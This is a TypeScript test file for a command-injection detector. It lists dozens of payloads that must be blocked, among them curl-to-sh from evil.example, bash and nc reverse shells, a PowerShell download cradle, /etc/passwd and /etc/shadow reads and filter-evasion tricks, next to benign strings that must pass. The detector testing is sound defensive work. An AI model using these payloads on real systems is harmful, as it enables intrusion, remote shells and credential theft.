import { describe, expect, it } from 'vitest';
import { BLOCKING_CONFIDENCE } from '../../src/core/detector.ts';
import type { Field } from '../../src/core/field.ts';
import { injectionCommand } from '../../src/detectors/injection-command.ts';
import { recognise } from '../support/field.ts';

type Row = [text: string, overrides: Partial<Field>];

const LOUD: Row[] = [
  ['`curl http://evil.example/x | sh`', {}],
  [';cat /etc/passwd', {}],
  ['; ls -la', {}],
  ['| whoami', {}],
  ['|| id', {}],
  ['& ping -c 10 127.0.0.1 &', {}],
  ['&& cat /etc/passwd', {}],
  ['$(whoami)', {}],
  ['`whoami`', {}],
  ['$(cat /etc/passwd)', {}],
  ['127.0.0.1; cat /etc/passwd', {}],
  ['127.0.0.1 | nc 10.0.0.1 4444 -e /bin/sh', {}],
  ['a;id', {}],
  ['x|id', {}],
  ['127.0.0.1&&whoami', {}],
  ['; sleep 5', {}],
  ['| sleep 5', {}],
  ['$(sleep 5)', {}],
  ['`sleep 5`', {}],
  ['cat${IFS}/etc/passwd', {}],
  [";c'a't /etc/passwd", {}],
  ['{cat,/etc/passwd}', {}],
  ['; /???/c?t /etc/passwd', {}],
  ["() { :;}; /bin/bash -c 'id'", {}],
  ['\ncat /etc/passwd\n', {}],
  ['; curl http://evil.example/x | sh', {}],
  ['| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A', {}],
  ['& dir c:\\', {}],
  ['&& type c:\\windows\\win.ini', {}],
  ['a$(curl evil.example)', {}],
  ['; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', {}],
  ['|/bin/cat /etc/shadow', {}],
  [';wget http://evil.example/a.sh', {}],
  ['x; uname -a', {}],
  ['$(ping -c 3 10.0.0.1)', {}],
  ['cat</etc/passwd', {}],
  ['; tar -czf /tmp/x.tgz /home', {}],
  ['file.txt;chmod 777 /tmp/x', {}],
  ['$(</etc/passwd)', {}],
  ['1;id>/tmp/out', {}],
  ['${@}c${@}at /etc/passwd', {}],
  ["& powershell IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')", {}],
  ['ls -la; cat /etc/passwd', { pointer: '/scripts/list', name: 'list' }],
  ['127.0.0.1; curl http://evil.example/x | sh', { pointer: '/command', name: 'command' }],
  ['sleep 1; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', { pointer: '/run', name: 'run' }],
];

const QUIET: Row[] = [
  ['# Use `curl http://localhost/x | sh` and {{name}}', { location: 'body' }],
  ['Install: `curl -fsSL https://get.example.com/install.sh | sh`.', { location: 'body' }],
  ['Tom & Jerry', {}],
  ['AT&T', {}],
  ['a; b; c', {}],
  ['rock & roll; and more', {}],
  ['text/html; charset=utf-8', {}],
  ['color: red; margin: 0', {}],
  ['Smith & Sons; est. 1900', {}],
  ['cats & dogs', {}],
  ['id; name; price', {}],
  ['| a | b | c |', {}],
  ['| Name | Price |\n|---|---|\n| Lamp | 10 |', {}],
  ['${name}', {}],
  ['$5 (five dollars)', {}],
  ['`code`', {}],
  ['Use `npm install` first', {}],
  ['cost: $(5)', {}],
  ['x && y || z', {}],
  ['if (a && b) { c(); }', {}],
  ['Q&A; who, what, when', {}],
  ['he said; find it', {}],
  ['first; last', {}],
  ['salt & pepper; to taste', {}],
  ['Bed & Breakfast | Hotel', {}],
  ['ping me; sleep well', {}],
  ['more | less', {}],
  ['a|b', {}],
  ['1|2|3', {}],
  ['R&D', {}],
  ['P&L; net income', {}],
  ['~/Documents', {}],
  ['#hashtag & more', {}],
  ['안녕; 하세요 & 감사', {}],
  ['Dear Ann;\nfind the file attached.\nBest regards,\nBob', {}],
  ['one\ntwo\nthree', {}],
  ['SELECT * FROM a; ', {}],
  ['key=value; path=/; HttpOnly', {}],
  ["M&M's | Skittles", {}],
  [
    'git tag v$(node -p "require(\'./package.json\').version") && git push --tags',
    { pointer: '/scripts/release', name: 'release' },
  ],
  [
    'docker build -t app:$(git rev-parse --short HEAD) . && docker run --rm app',
    { pointer: '/scripts/docker', name: 'docker' },
  ],
  ['wget -qO- https://get.example.io/install.sh | sh -', { pointer: '/jobs/0/script', name: 'script' }],
  ['sleep 10; curl -f http://localhost:3000/health', { pointer: '/jobs/0/script', name: 'script' }],
  ['* * * * * sleep 30; /usr/bin/php /var/www/cron.php', {}],
  ['0 * * * * echo "hello" | mail -s "cron" admin@example.com', {}],
  ['+ docker push registry.example:5000/app:1 && echo done', {}],
  ['node server.js && tail -f /dev/null', { pointer: '/Cmd', name: 'Cmd' }],
  ['until nc -z db 5432; do sleep 1; done; exec node server.js', { pointer: '/spec/command', name: 'command' }],
  [
    '/bin/sh -c set -eux; apk add --no-cache ca-certificates; # buildkit',
    { pointer: '/History/0/created_by', name: 'created_by' },
  ],
  ['| Command | Use |\n|---|---|\n| `cat file \\| less` | page |\n| `ps aux` | list |', {}],
  ['NODE_ENV=test npx jest $(cat tests.txt)', { pointer: '/scripts/test', name: 'test' }],
];

describe('injection-command', () => {
  it.each(LOUD)('blocks %j', (text, overrides) => {
    expect(recognise(injectionCommand, text, overrides)?.confidence ?? 0).toBeGreaterThanOrEqual(BLOCKING_CONFIDENCE);
  });
  it.each(QUIET)('does not block %j', (text, overrides) => {
    expect(recognise(injectionCommand, text, overrides)?.confidence ?? 0).toBeLessThan(0.3);
  });
});
